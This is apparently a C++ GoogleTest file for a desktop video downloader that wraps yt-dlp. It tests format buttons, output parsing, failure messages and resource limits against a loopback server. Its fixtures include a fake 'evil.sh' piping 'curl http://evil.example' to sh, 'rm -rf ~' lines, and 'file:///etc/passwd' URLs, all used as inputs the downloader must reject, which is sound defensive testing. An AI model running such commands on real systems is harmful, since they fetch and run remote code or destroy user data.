#include "MediaClips.h"
#include "TestFakes.h"
#include "TestHttpServer.h"
#include "TestSupport.h"

#include "core/download/OnlineVideoController.h"
#include "core/download/YtDlp.h"
#include "core/download/YtDlpAge.h"
#include "core/download/YtDlpRun.h"

#include <QDir>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <sys/resource.h>

#include <tuple>

using namespace vantrel;

namespace {

YtFormat format(const char *id, const char *ext, const char *protocol, int height, bool video,
                bool audio, double bitrate)
{
    YtFormat f;
    f.id = qs(id);
    f.ext = qs(ext);
    f.protocol = qs(protocol);
    f.height = height;
    f.width = height * 16 / 9;
    f.video = video;
    f.audio = audio;
    f.bitrate = bitrate;
    return f;
}

QStringList filesIn(const QString &folder)
{
    return QDir(folder).entryList(QDir::Files | QDir::Hidden, QDir::Name);
}

// The kinds of stream a file holds, as the encoder's prober reads them.
QString streamsOf(const QString &file)
{
    QProcess probe;
    probe.start(qs("ffprobe"), {qs("-v"), qs("error"), qs("-show_entries"), qs("stream=codec_type"),
                                qs("-of"), qs("csv=p=0"), file});
    probe.waitForFinished(30000);
    return QString::fromUtf8(probe.readAllStandardOutput())
        .split(u'\n', Qt::SkipEmptyParts)
        .join(u',');
}

} // namespace

// Each button stands for what it means to a user, whatever the site calls
// its formats; a picture without sound takes the sound that fits it.
TEST(YtDlpFormats, EachButtonTakesTheFormatThatMeansItToAUser)
{
    const struct
    {
        const char *page;
        QList<YtFormat> formats;
        QMap<int, QString> selectors; // button -> what yt-dlp is asked for
    } cases[] = {
        {"a video site of today",
         {format("18", "mp4", "https", 360, true, true, 500),
          format("22", "mp4", "https", 720, true, true, 1500),
          format("hls-720", "mp4", "m3u8_native", 720, true, true, 2000),
          format("137", "mp4", "https", 1080, true, false, 4000),
          format("248", "webm", "https", 1080, true, false, 3000),
          format("140", "m4a", "https", 0, false, true, 128),
          format("251", "webm", "https", 0, false, true, 160)},
         {{22, qs("22")}, {35, qs("137+140")}, {34, qs("22")}, {5, qs("18")}}},
        {"a page pointing to HLS",
         {format("hls", "mp4", "m3u8_native", 0, true, true, 0)},
         {{35, qs("hls")}, {5, qs("hls")}}},
        {"a DASH manifest",
         {format("0", "mp4", "http_dash_segments", 240, true, false, 200),
          format("1", "m4a", "http_dash_segments", 0, false, true, 69)},
         {{35, qs("0+1")}, {34, qs("0+1")}, {5, qs("0+1")}}},
        {"a <video> of unknown size",
         {format("0", "mp4", "http", 0, true, true, 0)},
         {{22, qs("0")}, {35, qs("0")}, {5, qs("0")}}},
        {"sound only", {format("0", "mp3", "https", 0, false, true, 128)}, {}},
    };
    for (const auto &c : cases) {
        QMap<int, QString> selectors;
        const QMap<int, YtButton> buttons = buttonsForFormats(c.formats);
        for (auto it = buttons.cbegin(); it != buttons.cend(); ++it)
            selectors.insert(it.key(), it->formatSelector);
        EXPECT_EQ(selectors, c.selectors) << c.page;
    }
    // A user may also name the formats themselves.
    const QList<YtFormat> site = cases[0].formats;
    EXPECT_EQ(formatSelectorFor(qs("35"), site), qs("137+140"));
    EXPECT_EQ(formatSelectorFor(qs("248+251"), site), qs("248+251"));
    EXPECT_EQ(formatSelectorFor(qs("999"), site), std::nullopt);
}

// yt-dlp's JSON and its download output, as recorded from it.
TEST(YtDlpOutput, ReadsItsVideoAndItsProgress)
{
    const Expected<YtVideo> video = parseYtDlpVideo(
        R"({"id": "page-1", "title": "My holiday", "uploader": "Ann", "upload_date": "20240131",
            "categories": ["Travel", "Sea"], "description": "Sun", "duration": 12.6,
            "like_count": 42, "thumbnail": "https://example.com/t.jpg",
            "webpage_url_domain": "example.com",
            "formats": [{"format_id": "0", "url": "https://example.com/v.mp4", "ext": "mp4",
                         "protocol": "https", "vcodec": null, "acodec": "none",
                         "width": 640, "height": 360, "tbr": 800}, {"url": "no id"}]})");
    ASSERT_TRUE(video) << video.error();
    EXPECT_EQ(video->info.title, qs("My holiday"));
    EXPECT_EQ(video->info.author, qs("Ann"));
    EXPECT_EQ(video->info.published, qs("2024-01-31"));
    EXPECT_EQ(video->info.category, qs("Travel, Sea"));
    EXPECT_EQ(video->info.length, qs("13"));
    EXPECT_EQ(video->info.rating, qs("42 likes"));
    EXPECT_EQ(video->site, qs("example.com"));
    ASSERT_EQ(video->formats.size(), 1);
    EXPECT_TRUE(video->formats[0].video);
    EXPECT_FALSE(video->formats[0].audio);
    EXPECT_EQ(video->formats[0].description(), qs("MP4, 640x360, no sound of its own"));
    EXPECT_FALSE(parseYtDlpVideo("null"));
    EXPECT_FALSE(parseYtDlpVideo(R"({"id": "x", "formats": []})"));

    // Lines cut anywhere, a message glued to the end of another, \r endings.
    LineAssembler assembler = ytDlpLineAssembler();
    QStringList lines;
    for (const char *piece :
         {"[vantrel] {\"downloaded_bytes\": 1024, \"total_bytes\": 4096}\r\n[vantrel] {\"dow",
          "nloaded_bytes\": 2048, \"total_bytes_estimate\": 8192}\n[Merger] Merging formats",
          "[vantrel-file] /d/.a.vantrel-1-1.mp4\n[vantrel] {\"downloaded_bytes\": 7}\n"})
        lines += assembler.add(qs(piece));
    EXPECT_TRUE(assembler.takeRest().isEmpty());
    ASSERT_EQ(lines.size(), 5) << lines.join(u'|');
    EXPECT_EQ(lines[2], qs("[Merger] Merging formats"));
    EXPECT_EQ(lines[3], qs("[vantrel-file] /d/.a.vantrel-1-1.mp4"));
    EXPECT_EQ(parseYtDlpProgress(lines[0])->total, 4096);
    EXPECT_EQ(parseYtDlpProgress(lines[1])->total, 8192);
    EXPECT_EQ(parseYtDlpProgress(lines[4])->downloaded, 7);
    EXPECT_EQ(parseYtDlpProgress(lines[4])->total, std::nullopt);
    EXPECT_FALSE(parseYtDlpProgress(lines[2]));

    EXPECT_EQ(ytDlpError(qs("[generic] x: Requesting\nERROR: Unsupported URL: http://a/\n")),
              qs("yt-dlp: Unsupported URL: http://a/"));
    EXPECT_EQ(openGraphPicture(qs("<meta content='/p.jpg?x=1&amp;y=2' property=\"og:image\">"),
                               qs("http://a/b/page")),
              qs("http://a/p.jpg?x=1&y=2"));
}

// A stream is offered only when yt-dlp fetches it over http(s): one file, or
// HLS and DASH pieces whose every address is a web one. A format that names
// a local file, inline data or FTP anywhere never reaches a button.
TEST(YtDlpOutput, OnlyFormatsFetchedOverTheWebAreOffered)
{
    const Expected<YtVideo> video = parseYtDlpVideo(R"({"id": "v", "title": "t", "formats": [
        {"format_id": "ftp", "url": "ftp://127.0.0.1/v.mp4", "protocol": "ftp"},
        {"format_id": "file", "url": "file:///etc/passwd", "protocol": "file"},
        {"format_id": "data", "url": "data:video/mp4;base64,AAAA", "protocol": "https"},
        {"format_id": "rtmp", "url": "rtmp://example.com/live", "protocol": "rtmp"},
        {"format_id": "hls-local", "url": "https://a.example/x.m3u8",
         "manifest_url": "file:///tmp/x.m3u8", "protocol": "m3u8_native"},
        {"format_id": "dash-ftp", "url": "https://a.example/m.mpd", "protocol": "http_dash_segments",
         "fragment_base_url": "https://a.example/", "fragments": [{"url": "ftp://a.example/1"}]},
        {"format_id": "web", "url": "https://a.example/v.mp4", "protocol": "https"},
        {"format_id": "hls", "url": "http://a.example/x.m3u8", "protocol": "m3u8_native",
         "manifest_url": "http://a.example/x.m3u8"},
        {"format_id": "dash", "url": "https://a.example/m.mpd", "protocol": "http_dash_segments",
         "fragment_base_url": "https://a.example/", "fragments": [{"path": "1.m4s"}]}]})");
    ASSERT_TRUE(video) << video.error();
    QStringList offered;
    for (const YtFormat &format : video->formats)
        offered << format.id;
    EXPECT_EQ(offered, (QStringList{qs("web"), qs("hls"), qs("dash")}));
    EXPECT_FALSE(
        parseYtDlpVideo(R"({"id": "v", "url": "file:///etc/passwd", "protocol": "file"})"));
}

// Why yt-dlp failed, in the words that tell: FFmpeg's own lines first when
// the FFmpeg it ran failed (recorded from yt-dlp 2023.03.04 fetching HLS
// through FFmpeg onto a full disk), the memory it ran out of, or its error.
TEST(YtDlpOutput, FailuresSayWhatHappened)
{
    const struct
    {
        const char *output;
        const char *reason;
    } cases[] = {
        {"[download] Destination: x.mp4\n"
         "[hls @ 0x56307775b980] Opening 'http://127.0.0.1:8765/hls/index0.ts' for reading\n"
         "Output #0, mp4, to 'file:x.mp4.part':\n"
         "Press [q] to stop, [?] for help\n"
         "frame=    1 fps=0.0 q=-1.0 size=       0kB time=00:00:00.02 bitrate=  16.5kbits/s "
         "speed=N/A    \rav_interleaved_write_frame(): No space left on device\n"
         "Error writing trailer of file:x.mp4.part: No space left on device\n"
         "frame=  148 fps=0.0 q=-1.0 Lsize=     256kB time=00:00:05.90 bitrate= 355.3kbits/s "
         "speed= 303x    \n"
         "video:472kB audio:51kB subtitle:0kB other streams:0kB global headers:0kB muxing "
         "overhead: unknown\n"
         "Error closing file file:x.mp4.part: No space left on device\n"
         "Conversion failed!\n\n\nERROR: ffmpeg exited with code 1\n",
         "Error writing trailer of file:x.mp4.part: No space left on device\n"
         "Error closing file file:x.mp4.part: No space left on device\n"
         "yt-dlp: ffmpeg exited with code 1"},
        {"[generic] twice: Downloading webpage\nTraceback (most recent call last):\n"
         "  File \"/usr/lib/python3/dist-packages/yt_dlp/extractor/common.py\", line 1001\n"
         "MemoryError\n",
         "yt-dlp needed more than the 1024 MB of memory it may use (what it read never ended); "
         "it was stopped"},
        {"[generic] x: Downloading webpage\nERROR: \n", // a MemoryError as yt-dlp reports it
         "yt-dlp needed more than the 1024 MB of memory it may use (what it read never ended); "
         "it was stopped"},
        {"[download] Destination: .MemoryError.vantrel-h-1-1.mp4\n"
         "ERROR: unable to download video data: HTTP Error 404: Not Found\n",
         "yt-dlp: unable to download video data: HTTP Error 404: Not Found"},
    };
    for (const auto &c : cases)
        EXPECT_EQ(ytDlpError(qs(c.output)), qs(c.reason));
}

// A download is saved under a media extension only: yt-dlp's when it is one,
// else the one of the container the file's first bytes show; a file that is
// no media (a script called "evil.sh" by its server) is not saved at all.
TEST(YtDlpOutput, DownloadsAreSavedAsMediaOnly)
{
    MediaClips clips;
    const QStringList picture = {qs("-f"), qs("lavfi"), qs("-i"), qs("testsrc=s=64x48:d=0.2")};
    const QStringList sound = {qs("-f"), qs("lavfi"), qs("-i"), qs("sine=d=0.2")};
    const struct
    {
        QString file;
        const char *given; // the extension yt-dlp gave it
        const char *saved; // "" for refused
    } cases[] = {
        {clips.encoded(qs("a.mp4"), picture), "unknown_video", "mp4"},
        {clips.encoded(qs("a.mov"), picture), "sh", "mov"},
        {clips.encoded(qs("a.mkv"), picture), "bin", "mkv"},
        {clips.encoded(qs("a.webm"), picture + QStringList{qs("-c:v"), qs("libvpx")}), "php",
         "webm"},
        {clips.encoded(qs("a.ts"), picture), "html", "ts"},
        {clips.encoded(qs("a.opus"), sound), "py", "opus"},
        {clips.encoded(qs("a.mp3"), sound), "unknown_video", "mp3"},
        {clips.encoded(qs("a.aac"), sound), "unknown_video", "aac"},
        {clips.encoded(qs("b.mp4"), picture), "MP4", "mp4"},
        {clips.path(qs("evil.sh")), "sh", ""},
        {clips.path(qs("evil.desktop")), "desktop", ""},
        {clips.path(qs("b.txt")), "mp4", ""}, // text is no media, whatever its extension
    };
    writeFile(clips.path(qs("evil.sh")), "#!/bin/sh\ncurl http://evil.example | sh\n");
    writeFile(clips.path(qs("evil.desktop")), "[Desktop Entry]\nExec=sh -c 'rm -rf ~'\n");
    writeFile(clips.path(qs("b.txt")), "#!/bin/sh\nrm -rf ~\n");
    for (const auto &c : cases) {
        const std::optional<QString> saved =
            savedExtension(qs(c.given), readFile(c.file).left(4096));
        EXPECT_EQ(saved.value_or(QString()), qs(c.saved)) << c.file;
    }
    // An MP4 that FFmpeg left cut short on a full disk is no whole file.
    for (const auto &[file, extension, whole] :
         {std::tuple{cases[0].file, "mp4", true},
          {clips.truncated(cases[0].file, qs("cut.mp4"), 0.9), "mp4", false},
          {clips.truncated(cases[2].file, qs("cut.mkv"), 0.9), "mkv", true}}) {
        QFile opened(file);
        ASSERT_TRUE(opened.open(QIODevice::ReadOnly));
        EXPECT_EQ(isWholeMediaFile(opened, qs(extension)), whole) << file;
    }
}

// Today's pages on the loopback server, read, shown and downloaded through
// the real yt-dlp: a <video> page, HLS and DASH, and the ways they fail.
class TodaysPages : public ::testing::Test
{
protected:
    void SetUp() override
    {
        if (QStandardPaths::findExecutable(qs("yt-dlp")).isEmpty())
            GTEST_SKIP() << "no yt-dlp installed";
        const QStringList av = {
            qs("-f"),   qs("lavfi"),   qs("-i"),      qs("testsrc=size=160x120:rate=25:duration=2"),
            qs("-f"),   qs("lavfi"),   qs("-i"),      qs("sine=duration=2"),
            qs("-c:v"), qs("libx264"), qs("-preset"), qs("ultrafast"),
            qs("-g"),   qs("25"),      qs("-c:a"),    qs("aac")};
        clip = readFile(
            clips.encoded(qs("clip.mp4"), av + QStringList{qs("-movflags"), qs("+faststart")}));
        QDir().mkpath(clips.path(qs("hls")));
        QDir().mkpath(clips.path(qs("dash")));
        clips.encoded(qs("hls/index.m3u8"),
                      av + QStringList{qs("-f"), qs("hls"), qs("-hls_time"), qs("1"),
                                       qs("-hls_playlist_type"), qs("vod")});
        clips.encoded(qs("dash/manifest.mpd"),
                      av + QStringList{qs("-f"), qs("dash"), qs("-seg_duration"), qs("1")});
        for (const char *folder : {"hls", "dash"}) {
            for (const QString &name : filesIn(clips.path(qs(folder))))
                server.route("/" + QByteArray(folder) + "/" + name.toUtf8(),
                             {readFile(clips.path(qs(folder) + u'/' + name))});
        }
        server.route("/clip.mp4", {clip});
        server.route("/pic.jpg", {"JPEG bytes"});
        server.route("/slow.mp4", TestHttpServer::Route::trickling(clip, 2));
        const auto page = [](const char *title, const char *source) -> QByteArray {
            return QByteArray(
                       "<html><head><title>t</title><meta property=\"og:title\" content=\"") +
                   title +
                   "\"><meta property=\"og:image\" content=\"/pic.jpg\"></head><body><video "
                   "controls><source src=\"" +
                   source + "\"></video></body></html>";
        };
        server.route("/video", {page("Sea: a/b", "/clip.mp4")});
        server.route("/hlspage", {page("Pieces", "/hls/index.m3u8")});
        server.route("/gone", {page("Gone", "/nothere.mp4")});
        server.route("/slow", {page("Slow", "/slow.mp4")});
        server.route("/novideo", {"<html><head><title>Words only</title></head></html>"});
        controller = std::make_unique<OnlineVideoController>(downloads.path(),
                                                             cache.filePath(qs("Cache")), &prompt);
    }

    void read(const char *path)
    {
        QSignalSpy read(controller.get(), &OnlineVideoController::pageRead);
        controller->addressChanged();
        controller->getDirectLink(server.url(path));
        ASSERT_TRUE(read.wait(60000)) << path;
    }
    // Downloads a button's format; whether it succeeded.
    bool download(int button)
    {
        QSignalSpy done(controller.get(), &OnlineVideoController::downloadFinished);
        EXPECT_TRUE(controller->download(button));
        return done.wait(60000) && done.at(0).at(0).toBool();
    }

    MediaClips clips;
    QByteArray clip;
    TestHttpServer server;
    QTemporaryDir downloads;
    QTemporaryDir cache;
    RecordingPrompt prompt;
    std::unique_ptr<OnlineVideoController> controller;
};

TEST_F(TodaysPages, AreReadShownAndDownloaded)
{
    read("/video");
    EXPECT_TRUE(controller->isReadByYtDlp());
    EXPECT_EQ(controller->info().title, qs("Sea: a/b (1)"));
    EXPECT_EQ(controller->enabledFormats(), (QSet<int>{22, 35, 5}));
    EXPECT_EQ(controller->streamDescription(22), qs("MP4 (yt-dlp format 0)"));
    EXPECT_TRUE(controller->statusText().startsWith(qs("Complete! Get MP4: MP4")));
    EXPECT_EQ(controller->previewFormat(), 22);
    EXPECT_EQ(*controller->previewAddress(22), server.url("/clip.mp4"));
    // The page's own picture, since the generic reader gives none.
    ASSERT_TRUE(QTest::qWaitFor([&] { return !controller->isPictureLoading(); }, 10000));
    EXPECT_EQ(readFile(controller->thumbnailFile()), QByteArray("JPEG bytes"));

    ASSERT_TRUE(download(22)) << prompt.errors.join(u'\n');
    // Under the safe title, as served, nothing else left.
    EXPECT_EQ(controller->downloadedFile(), downloads.filePath(qs("Sea: a_b (1).mp4")));
    EXPECT_EQ(readFile(controller->downloadedFile()), clip);
    ASSERT_TRUE(download(35));
    EXPECT_EQ(filesIn(downloads.path()),
              (QStringList{qs("Sea: a_b (1).mp4"), qs("Sea: a_b (1)_New.mp4")}));

    // HLS: downloaded whole, never previewed in pieces.
    read("/hlspage");
    EXPECT_EQ(controller->enabledFormats(), (QSet<int>{35, 5}));
    EXPECT_EQ(controller->previewFormat(), std::nullopt);
    EXPECT_FALSE(controller->previewAddress(35));
    ASSERT_TRUE(download(35)) << prompt.errors.join(u'\n');
    EXPECT_EQ(filesIn(downloads.path()).size(), 3);
    EXPECT_EQ(streamsOf(controller->downloadedFile()), qs("video,audio"));

    // A DASH manifest addressed directly: picture and sound joined.
    read("/dash/manifest.mpd");
    EXPECT_TRUE(controller->streamDescription(35).endsWith(qs("(yt-dlp format 0+1)")))
        << controller->streamDescription(35);
    ASSERT_TRUE(download(35)) << prompt.errors.join(u'\n');
    EXPECT_EQ(filesIn(downloads.path()).size(), 4);
    EXPECT_EQ(controller->downloadedFile(), downloads.filePath(qs("manifest.mp4")));
    EXPECT_EQ(streamsOf(controller->downloadedFile()), qs("video,audio"));
    EXPECT_TRUE(prompt.errors.isEmpty()) << prompt.errors.join(u'\n');
}

TEST_F(TodaysPages, FailuresSayWhyAndLeaveNothing)
{
    read("/novideo");
    EXPECT_TRUE(controller->statusText().contains(qs("no video"))) << controller->statusText();
    EXPECT_TRUE(controller->enabledFormats().isEmpty());
    EXPECT_TRUE(controller->info().title.isEmpty());

    read("/gone"); // its stream answers 404
    EXPECT_FALSE(download(22));
    EXPECT_TRUE(controller->statusText().contains(qs("404"))) << controller->statusText();

    read("/slow"); // cancelled half way
    QSignalSpy done(controller.get(), &OnlineVideoController::downloadFinished);
    QSignalSpy progress(controller.get(), &OnlineVideoController::downloadProgress);
    ASSERT_TRUE(controller->download(22));
    ASSERT_TRUE(progress.wait(30000));
    controller->cancelDownload();
    ASSERT_TRUE(done.count() == 1 || done.wait(10000));
    EXPECT_EQ(controller->statusText(), qs("The download was cancelled; nothing of it was kept."));
    EXPECT_EQ(prompt.errors.size(), 1); // the 404 only: a cancel is no error
    EXPECT_TRUE(filesIn(downloads.path()).isEmpty()) << filesIn(downloads.path()).join(u' ');

    // yt-dlp missing, or too old for the options it is given.
    QTemporaryDir tools;
    const QString old = tools.filePath(qs("yt-dlp"));
    QFile script(old);
    ASSERT_TRUE(script.open(QIODevice::WriteOnly));
    script.write("#!/bin/sh\necho 'Usage: yt-dlp [OPTIONS] URL'\n"
                 "echo 'yt-dlp: error: no such option: --no-color' >&2\nexit 2\n");
    script.close();
    script.setPermissions(QFile::ReadOwner | QFile::ExeOwner);
    // One of 2023 that sites have outrun: its failure says how to get a current one.
    const QString outrun = tools.filePath(qs("outrun"));
    writeFile(outrun, "#!/bin/sh\n[ \"$1\" = --version ] && echo 2023.03.04 && exit 0\n"
                      "echo 'ERROR: [generic] Unable to extract video data' >&2\nexit 1\n");
    QFile::setPermissions(outrun, QFile::ReadOwner | QFile::ExeOwner);
    const struct
    {
        QString program;
        const char *status;
        const char *version;
    } tooling[] = {
        {tools.filePath(qs("none")), "Reading this page needs yt-dlp, which was not", ""},
        {old, "Reading this page needs a newer yt-dlp than", ""},
        {outrun, "pipx install yt-dlp", "2023.03.04"}};
    for (const auto &t : tooling) {
        controller->setYtDlpProgram(t.program);
        if (*t.version) {
            ASSERT_TRUE(QTest::qWaitFor([&] { return controller->ytDlpVersion() == qs(t.version); },
                                        10000));
        }
        read("/video");
        EXPECT_TRUE(controller->statusText().contains(qs(t.status))) << controller->statusText();
        EXPECT_TRUE(controller->enabledFormats().isEmpty());
    }
}

// yt-dlp's version is its release day: its age, and what to do when sites
// have outrun it; nothing for a version that is no day.
TEST(YtDlpAge, OldOnesSayHowToGetACurrentOne)
{
    const QDate today(2026, 12, 9);
    const struct
    {
        const char *version;
        bool stale;
        const char *says;
    } cases[] = {
        {"2023.03.04", true, "is 3 years old. Sites change every month"},
        {"2026.09.01", true, "is 3 months old. Sites change"},
        {"2026.11.20.1", false, "is 19 days old: current enough"},
        {"2026.12.09", false, "is 0 days old"},
        {"nightly", false, "yt-dlp nightly (/usr/bin/yt-dlp) reads"},
        {"", false, "yt-dlp was not found"},
        {"2026.02.30", false, "reads today's web pages"}, // no such day
    };
    for (const auto &c : cases) {
        SCOPED_TRACE(c.version);
        EXPECT_EQ(ytDlpIsStale(qs(c.version), today), c.stale);
        EXPECT_TRUE(ytDlpAdvice(qs(c.version), qs("/usr/bin/yt-dlp"), today).contains(qs(c.says)))
            << ytDlpAdvice(qs(c.version), qs("/usr/bin/yt-dlp"), today).toStdString();
    }
}

// Whatever a server does, yt-dlp is held to the program's bounds: a page that
// answers yt-dlp's own fetch without end fills no more than the memory yt-dlp
// may use (peak measured), a stream that trickles or never ends is stopped
// with why, a redirect to FTP fetches nothing, and a server that sends a
// script gets nothing saved, while a video it misnames is saved as a video.
TEST_F(TodaysPages, BoundsHoldWhateverTheServerDoes)
{
    QTcpServer ftp;
    ASSERT_TRUE(ftp.listen(QHostAddress::LocalHost));
    int ftpConnections = 0;
    QObject::connect(&ftp, &QTcpServer::newConnection, &ftp, [&] { ++ftpConnections; });
    const QByteArray ftpAddress =
        "ftp://127.0.0.1:" + QByteArray::number(ftp.serverPort()) + "/v.mp4";
    const auto page = [](const QByteArray &source) -> QByteArray {
        return "<html><head><title>Bounds</title></head><body><video src=\"" + source +
               "\"></video></body></html>";
    };
    TestHttpServer::Route endlessPage = TestHttpServer::Route::endlessBody();
    endlessPage.body = "<html><head><title>Endless</title></head><body>";
    endlessPage.contentType = "text/html";
    server.routes("/twice", {{page("/clip.mp4")}, endlessPage});
    server.route("/ftppage", {page(ftpAddress)});
    server.route("/drip.mp4", TestHttpServer::Route::trickling(clip, 20000));
    server.route("/endless.mp4", TestHttpServer::Route::endlessBody());
    server.route("/hop.mp4", TestHttpServer::Route::redirect(ftpAddress));
    for (const char *name : {"drip", "endless", "hop"})
        server.route("/" + QByteArray(name) + "page", {page("/" + QByteArray(name) + ".mp4")});
    TestHttpServer::Route script("#!/bin/sh\necho owned > ~/owned\n");
    script.contentType = "text/x-sh";
    server.route("/evil.sh", script);
    TestHttpServer::Route misnamed(clip);
    misnamed.contentType = "application/x-desktop";
    server.route("/clip.desktop", misnamed);

    read("/twice"); // the program's fetch is small, yt-dlp's never ends
    EXPECT_TRUE(controller->statusText().contains(qs("needed more than the 1024 MB")))
        << controller->statusText();
    rusage children = {};
    ::getrusage(RUSAGE_CHILDREN, &children);
    EXPECT_LT(children.ru_maxrss, 1400 * 1024) << "peak kB of a child: " << children.ru_maxrss;
    read("/ftppage");
    EXPECT_TRUE(controller->statusText().contains(qs("no video"))) << controller->statusText();

    const struct
    {
        const char *page;
        int stallMs;
        qint64 maxBytes;
        const char *says;  // part of the failure; "" for success
        const char *saved; // the file kept
    } downloads[] = {
        {"/drippage", 3000, kDefaultMaxDownloadBytes, "nothing arrived for 3 seconds", ""},
        {"/endlesspage", YtDlpDownload::kStallMs, 4 * 1024 * 1024, "grew past 4 MB", ""},
        {"/hoppage", YtDlpDownload::kStallMs, kDefaultMaxDownloadBytes, "yt-dlp: ", ""},
        {"/evil.sh", YtDlpDownload::kStallMs, kDefaultMaxDownloadBytes, "no video or sound file",
         ""},
        {"/clip.desktop", YtDlpDownload::kStallMs, kDefaultMaxDownloadBytes, "", "Misnamed.mp4"},
    };
    for (const auto &d : downloads) {
        SCOPED_TRACE(d.page);
        QTemporaryDir folder;
        YtDlpDownload download(qs("yt-dlp"), folder.path(), cache.path());
        download.setStallMs(d.stallMs);
        download.setMaxBytes(d.maxBytes);
        QSignalSpy done(&download, &YtDlpDownload::finished);
        ASSERT_TRUE(download.start(server.url(d.page), qs("b"), qs("Misnamed")));
        ASSERT_TRUE(done.wait(60000));
        const QString said = done.at(0).at(1).toString();
        EXPECT_EQ(done.at(0).at(0).toBool(), qstrlen(d.says) == 0) << said;
        EXPECT_TRUE(said.contains(qs(d.says))) << said;
        EXPECT_EQ(filesIn(folder.path()),
                  qstrlen(d.saved) == 0 ? QStringList() : QStringList{qs(d.saved)});
    }
    EXPECT_EQ(ftpConnections, 0);
}
